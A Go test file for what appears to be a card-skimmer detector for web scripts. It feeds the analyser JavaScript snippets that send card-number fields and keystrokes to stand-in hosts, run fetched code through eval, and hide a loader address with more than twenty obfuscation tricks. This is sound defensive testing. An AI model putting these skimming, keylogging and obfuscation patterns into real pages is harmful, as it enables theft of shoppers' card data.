package script_test

import (
	"bytes"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/evanw/esbuild/pkg/api"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/script"
)

// samples calls do for each script in a folder, as it is and minified.
func samples(t *testing.T, folder string, do func(t *testing.T, source []byte)) {
	files, err := filepath.Glob(filepath.Join("testdata", folder, "*.js"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no samples in %s: %v", folder, err)
	}
	for _, file := range files {
		source, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		t.Run(filepath.Base(file), func(t *testing.T) {
			t.Parallel()
			do(t, source)
			r := api.Transform(string(source), api.TransformOptions{MinifyWhitespace: true, MinifyIdentifiers: true, MinifySyntax: true})
			if len(r.Errors) == 0 && !strings.Contains(file, "-array") { // those are minified, and take their time
				do(t, r.Code)
			}
		})
	}
}

func TestSkimmersAreFound(t *testing.T) {
	samples(t, "skimmers", func(t *testing.T, source []byte) {
		a := script.Analyse(source, script.Options{})
		if a.Verdict.Severity < tillwatch.Medium {
			t.Errorf("judged %s (%d): %+v\n%s", a.Verdict.Severity, a.Verdict.Score, a.Verdict.Reasons, source[:min(len(source), 400)])
		}
		if len(a.Verdict.Reasons) == 0 {
			t.Error("no reason is given")
		}
		checkSpans(t, source, a)
	})
}

func TestHonestScriptsAreQuiet(t *testing.T) {
	samples(t, "honest", func(t *testing.T, source []byte) {
		a := script.Analyse(source, script.Options{})
		if a.Verdict.Severity > tillwatch.Low {
			t.Errorf("judged %s (%d): %+v", a.Verdict.Severity, a.Verdict.Score, a.Verdict.Reasons)
		}
		checkSpans(t, source, a)
	})
}

// checkSpans checks that every place that is named exists and holds the text that is shown of it.
func checkSpans(t *testing.T, source []byte, a *script.Analysis) {
	t.Helper()
	lines := strings.Split(strings.ReplaceAll(string(source), "\r\n", "\n"), "\n")
	spans := append(append(append([]script.Span{}, a.Verdict.Reasons...), a.Sources...), a.Gates...)
	for _, s := range a.Sinks {
		spans = append(spans, s.Span)
	}
	for _, s := range spans {
		if s.Line < 1 || s.Line > len(lines) || s.Column < 1 {
			t.Errorf("no such place: %+v", s)
			continue
		}
		head, _, _ := strings.Cut(s.Text, "•")
		head = strings.TrimRight(strings.TrimSuffix(head, "…"), " ")
		if rest := lines[s.Line-1]; s.Column > len(rest)+1 || len(head) > 0 && !strings.Contains(rest[min(s.Column-1, len(rest)):], head[:min(len(head), 12)]) {
			t.Errorf("%d:%d does not hold %q", s.Line, s.Column, s.Text)
		}
	}
}

func TestTheSameScriptGivesTheSameAnalysis(t *testing.T) {
	for _, name := range []string{"36-checkout.base64-array.js", "03-poller.js", "39-hooked-xhr.js"} {
		source, err := os.ReadFile(filepath.Join("testdata/skimmers", name))
		if err != nil {
			t.Fatal(err)
		}
		first := script.Analyse(source, script.Options{})
		for range 5 {
			if again := script.Analyse(source, script.Options{}); !reflect.DeepEqual(first, again) {
				t.Fatalf("%s: %+v, then %+v", name, first, again)
			}
		}
	}
}

func TestOwnAndTrustedHostsMayReceive(t *testing.T) {
	source := []byte(`document.querySelector('#pay').onclick = function () {
  fetch('https://api.provider.example/tokens', { method: 'POST', body: btoa(document.querySelector('#cc_number').value) });
};`)
	judge := func(o script.Options) tillwatch.Severity { return script.Analyse(source, o).Verdict.Severity }
	if s := judge(script.Options{}); s < tillwatch.Medium {
		t.Errorf("a host that nobody knows: %s", s)
	}
	if s := judge(script.Options{Own: "provider.example"}); s > tillwatch.Low {
		t.Errorf("the page's own host: %s", s)
	}
	if s := judge(script.Options{Trusted: func(h string) bool { return h == "api.provider.example" }}); s > tillwatch.Low {
		t.Errorf("a trusted host: %s", s)
	}
}

func TestCapabilities(t *testing.T) {
	a := script.Analyse([]byte(`
addEventListener('keydown', function (e) { navigator.sendBeacon('https://keys.example/k', e.key); });
fetch('https://api.example/cart').then(function (r) { return r.text(); }).then(eval);
var n = document.getElementById('cc_number').value;`), script.Options{})
	want := []tillwatch.Capability{"executes", "reads card", "reads keys", "sends api.example", "sends keys.example"}
	if !reflect.DeepEqual(a.Capabilities, want) {
		t.Errorf("got %q, want %q", a.Capabilities, want)
	}
}

func TestPlacesAreThoseOfTheSource(t *testing.T) {
	const call = "navigator.sendBeacon('https://x.example/', document.querySelector('#cc_number').value)"
	for name, c := range map[string]struct {
		source       string
		line, column int
	}{
		"plain":               {"\n\n  " + call, 3, 13},
		"CRLF":                {"// a\r\n// b\r\n" + call, 3, 11},
		"lone CR":             {"// a\r// b\r" + call, 3, 11},
		"after a kanji":       {"/* 注文 */ " + call, 1, 20},
		"after an emoji":      {"/* 🛒 */ " + call, 1, 20},
		"byte order mark":     {"\ufeff" + call, 1, 11},
		"module":              {"import x from './x.js';\nexport const y = 1;\n  " + call, 3, 13},
		"await at the top":    {"import x from './x.js';\nawait x();\n " + call, 3, 12},
		"lowered, same line":  {"for await (const i of j) {} " + call, 1, 39},
		"lowered, far away":   {"async function* g(){}\n/*\n\n*/\n\tif (1) { " + call + " }", 5, 21},
		"hashbang":            {"#!/usr/bin/env node\n" + call, 2, 11},
		"HTML comment":        {"<!--\n" + call + "\n//-->", 2, 11},
		"false source map":    {call + "\n//# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJtYXBwaW5ncyI6IkFBQUEifQ==", 1, 11},
		"line separator":      {"'a'\u2028" + call, 2, 11},
		"inside eval is eval": {"var a = 1;\neval(\"" + strings.ReplaceAll(call, `"`, `'`) + "\")", 2, 1},
	} {
		a := script.Analyse([]byte(c.source), script.Options{})
		found := false
		for _, s := range a.Sinks {
			found = found || s.Kind == script.SinkBeacon && s.Line == c.line && s.Column == c.column
		}
		if !found {
			t.Errorf("%s: %s, want %d:%d, got %+v", name, a.Parsed, c.line, c.column, a.Sinks)
		}
	}
}

func TestEncodingsOfSources(t *testing.T) {
	text := "var 名 = '注文'; // 日本語のコメント、テスト\nnavigator.sendBeacon('https://x.example/', document.querySelector('#cc_number').value)"
	for name, source := range map[string][]byte{
		"UTF-8":     []byte(text),
		"Shift_JIS": encode(t, "shift_jis", text),
		"EUC-JP":    encode(t, "euc-jp", text),
		"UTF-16LE":  encode(t, "utf-16le", text),
		"UTF-16BE":  encode(t, "utf-16be", text),
		"invalid":   append([]byte("var a = '\xff\xfe\x81';\n"), []byte(text[strings.Index(text, "navigator"):])...),
	} {
		a := script.Analyse(source, script.Options{})
		if a.Parsed == script.Unparsable || len(a.Sinks) == 0 || a.Sinks[0].Line != 2 || a.Sinks[0].Column != 11 {
			t.Errorf("%s: %s, %+v", name, a.Parsed, a.Sinks)
		}
	}
}

// Each way of hiding an address that was met in the field: all must come out as the same host, hidden.
func TestHiddenAddressesComeToLight(t *testing.T) {
	for name, expression := range map[string]string{
		"base64":              `atob('aHR0cHM6Ly9kcm9wLXpvbmUuZXhhbXBsZS9h')`,
		"character codes":     `String.fromCharCode(104,116,116,112,115,58,47,47,100,114,111,112,45,122,111,110,101,46,101,120,97,109,112,108,101,47,97)`,
		"codes in a list":     `[104,116,116,112,115,58,47,47,100,114,111,112,45,122,111,110,101,46,101,120,97,109,112,108,101,47,97].map(function (c) { return String.fromCharCode(c); }).join('')`,
		"codes applied":       `String.fromCharCode.apply(null, '104-116-116-112-115-58-47-47-100-114-111-112-45-122-111-110-101-46-101-120-97-109-112-108-101-47-97'.split('-'))`,
		"hex":                 `'68747470733a2f2f64726f702d7a6f6e652e6578616d706c652f61'.replace(/../g, function (h) { return String.fromCharCode(parseInt(h, 16)); })`,
		"percent":             `unescape('%68%74%74%70%73%3a%2f%2f%64%72%6f%70%2d%7a%6f%6e%65%2e%65%78%61%6d%70%6c%65%2f%61')`,
		"percent, modern":     `decodeURIComponent('%68%74%74%70%73%3a%2f%2f%64%72%6f%70%2d%7a%6f%6e%65%2e%65%78%61%6d%70%6c%65%2f%61')`,
		"escapes":             `'\x68\x74\x74\x70\x73\x3a\x2f\x2f\x64\x72\x6f\x70\x2d\x7a\x6f\x6e\x65\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x61'`,
		"reversed":            `'a/elpmaxe.enoz-pord//:sptth'.split('').reverse().join('')`,
		"reversed by hand":    `(function (s) { var o = ''; for (var i = s.length - 1; i >= 0; i--) o += s[i]; return o; })('a/elpmaxe.enoz-pord//:sptth')`,
		"in pieces":           `'ht' + 'tps' + '://dr' + 'op-z' + 'one.ex' + 'ample/a'`,
		"with rubbish":        `'h#t#t#p#s#:#/#/#d#r#o#p#-#z#o#n#e#.#e#x#a#m#p#l#e#/#a'.replace(/#/g, '')`,
		"rubbish, split":      `'hQtQtQpQsQ:Q/Q/QdQrQoQpQ-QzQoQnQeQ.QeQxQaQmQpQlQeQ/Qa'.split('Q').join('')`,
		"exclusive or":        `(function (k) { return 'HTTPS'.length && [66,94,94,90,89,16,5,5,78,88,69,90,7,80,69,68,79,4,79,82,75,71,90,70,79,5,75].map(function (c) { return String.fromCharCode(c ^ k); }).join(''); })(42)`,
		"shifted":             `'iuuqt;00espq.{pof/fybnqmf0b'.split('').map(function (c) { return String.fromCharCode(c.charCodeAt(0) - 1); }).join('')`,
		"from a dictionary":   `(function (d, i) { return i.map(function (n) { return d[n]; }).join(''); })('abcdefghijklmnopqrstuvwxyz:/.-', [7,19,19,15,18,26,27,27,3,17,14,15,29,25,14,13,4,28,4,23,0,12,15,11,4,27,0])`,
		"own base64":          `(function (s) { var a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', o = '', b = 0, n = 0; for (var i = 0; i < s.length; i++) { b = b << 6 | a.indexOf(s.charAt(i)); n += 6; if (n >= 8) { n -= 8; o += String.fromCharCode(b >> n & 255); } } return o; })('aHR0cHM6Ly9kcm9wLXpvbmUuZXhhbXBsZS9h')`,
		"through eval":        `eval('"htt" + "ps://drop" + "-zone.exa" + "mple/a"')`,
		"through Function":    `Function('return unescape("%68ttps://dr%6fp-zone.exampl%65/a")')()`,
		"constructor":         `[]['filter']['constructor']('return "https://dro" + "p-zone.example/a"')()`,
		"bytes":               `new TextDecoder().decode(new Uint8Array([104,116,116,112,115,58,47,47,100,114,111,112,45,122,111,110,101,46,101,120,97,109,112,108,101,47,97]))`,
		"in base 36":          `(1065061).toString(36) && 'https://' + (828232561..toString(36), 'dr') + 'op-z' + 'one.example/a'`,
		"parsed":              `JSON.parse('{"u":"https:\\u002f\\u002fdr\\u006fp-z\\u006fne.example/a"}').u`,
		"generator of pieces": `(() => { const p = { x: 'drop-', y: 'zone', z: '.example' }; return 'https://' + Object.keys(p).map(k => p[k]).join('') + '/a'; })()`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a := script.Analyse([]byte("var u = "+expression+";\nvar s = document.createElement('script'); s.src = u; document.head.appendChild(s);"), script.Options{})
			if len(a.Hosts) != 1 || a.Hosts[0].Name != "drop-zone.example" || !a.Hosts[0].Hidden {
				t.Errorf("hosts %+v, sinks %+v", a.Hosts, a.Sinks)
			}
			if a.Verdict.Severity < tillwatch.Medium {
				t.Errorf("code from a hidden place was judged %s", a.Verdict.Severity)
			}
		})
	}
}

func TestSourceShownIsShortAndMasked(t *testing.T) {
	a := script.Analyse([]byte(`fetch('https://x.example/?n=4111111111111111&c=' + document.querySelector('#cc_number').value + '`+strings.Repeat("x", 500)+`')`), script.Options{})
	if len(a.Sinks) == 0 {
		t.Fatal("no sink")
	}
	for _, s := range a.Sinks {
		if strings.Contains(s.Text+s.Target+s.What, "4111111111111111") || len(s.Text) > 100 || len(s.Target) > 100 {
			t.Errorf("shown: %q %q %q", s.What, s.Text, s.Target)
		}
	}
}

func TestUnparsableIsSaid(t *testing.T) {
	for source, want := range map[string]script.Parsed{
		"var a = ;":                     script.Unparsable,
		"<html><body>404</body></html>": script.Unparsable,
		"`${":                           script.Unparsable,
		"x = 1":                         script.ParsedWhole,
		"":                              script.ParsedWhole,
		"export default class A { #x }": script.ParsedLowered,
		"using x = f();":                script.ParsedLowered,
		"import j from './j' with { type: 'json' }": script.ParsedLowered,
		"import('./x.js').then(m => m.default())":   script.ParsedLowered,
		"return 1": script.ParsedLowered,
		strings.Repeat("(", 3000) + "1" + strings.Repeat(")", 3000): script.ParsedLexical,
	} {
		a := script.Analyse([]byte(source), script.Options{})
		if a.Parsed != want {
			t.Errorf("%.60q was read %s, want %s", source, a.Parsed, want)
		}
		if (a.Parsed == script.Unparsable || a.Parsed == script.ParsedLexical) && a.Partial == "" {
			t.Errorf("%.60q: what was not looked at is not said", source)
		}
	}
}

func TestWordsAloneStillTell(t *testing.T) {
	skimmer, err := os.ReadFile("testdata/skimmers/01-woocommerce-form.js")
	if err != nil {
		t.Fatal(err)
	}
	for name, source := range map[string][]byte{
		"broken":    append([]byte("var a = ;\n"), skimmer...),
		"too large": append(bytes.Repeat([]byte("function f(a){return a+1}\n"), 300_000), skimmer...),
	} {
		a := script.Analyse(source, script.Options{})
		if a.Verdict.Severity < tillwatch.Low || a.Partial == "" {
			t.Errorf("%s: judged %s, %q", name, a.Verdict.Severity, a.Partial)
		}
		for _, r := range a.Verdict.Reasons {
			if !strings.Contains(string(source), strings.TrimSuffix(r.Text, "…")) {
				t.Errorf("%s: %+v", name, r)
			}
		}
	}
}
